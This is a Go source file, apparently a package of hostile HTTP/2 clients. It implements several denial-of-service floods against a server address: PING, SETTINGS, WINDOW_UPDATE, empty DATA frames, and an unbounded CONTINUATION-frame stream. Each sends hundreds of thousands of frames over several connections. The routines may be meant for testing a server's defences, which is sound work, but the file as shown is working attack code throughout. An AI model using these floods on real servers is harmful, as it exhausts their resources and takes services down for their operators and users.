package hostile

import (
	"context"
	"net"
	"sync"

	"golang.org/x/net/http2"
)

// thousands is how often each connection sends a thousand frames.
const thousands = 500

// flood sends the same frames again and again on four connections, which have one call open that they may speak of.
func flood(ctx context.Context, address string, reads bool, write func(*http2.Framer) error) error {
	opening := request(watch)
	many := frames(func(f *http2.Framer) error {
		for range 1000 {
			_ = write(f)
		}
		return nil
	})
	return storm(ctx, address, 4, func(ctx context.Context, conn net.Conn) error {
		c := newConnection(conn)
		if err := c.greet(); err != nil {
			return err
		}
		if reads {
			go c.obey()
			defer func() { conn.Close(); <-c.gone }()
		}
		if _, err := c.call(opening, false); err != nil {
			return err
		}
		for range thousands {
			if err := c.write(many); err != nil {
				return err
			}
		}
		return c.hold(ctx)
	})
}

// Pings sends pings and never reads what answers them.
func Pings(ctx context.Context, address string) error {
	return flood(ctx, address, false, func(f *http2.Framer) error { return f.WritePing(false, [8]byte{}) })
}

// Settings sends settings, each of which must be acknowledged, and changes every stream's window by them.
func Settings(ctx context.Context, address string) error {
	return flood(ctx, address, true, func(f *http2.Framer) error {
		return f.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: 1})
	})
}

// Windows widens the windows of its stream and its connection by a byte at a time.
func Windows(ctx context.Context, address string) error {
	return flood(ctx, address, true, func(f *http2.Framer) error {
		_ = f.WriteWindowUpdate(0, 1)
		return f.WriteWindowUpdate(1, 1)
	})
}

// EmptyFrames sends DATA without data, and on other connections headers that go on without a byte.
func EmptyFrames(ctx context.Context, address string) error {
	var both sync.WaitGroup
	both.Go(func() {
		_ = flood(ctx, address, true, func(f *http2.Framer) error { return f.WriteData(1, false, nil) }) // err tells
	})
	err := storm2(ctx, address, 4, func(ctx context.Context, c *connection) error {
		first := frames(func(f *http2.Framer) error {
			return f.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: request(methods[0])})
		})
		if err := c.write(first); err != nil {
			return err
		}
		many := frames(func(f *http2.Framer) error {
			for range 1000 {
				_ = f.WriteContinuation(1, false, nil)
			}
			return nil
		})
		for range thousands {
			if err := c.write(many); err != nil {
				return err
			}
		}
		return c.hold(ctx)
	})
	both.Wait()
	return err
}
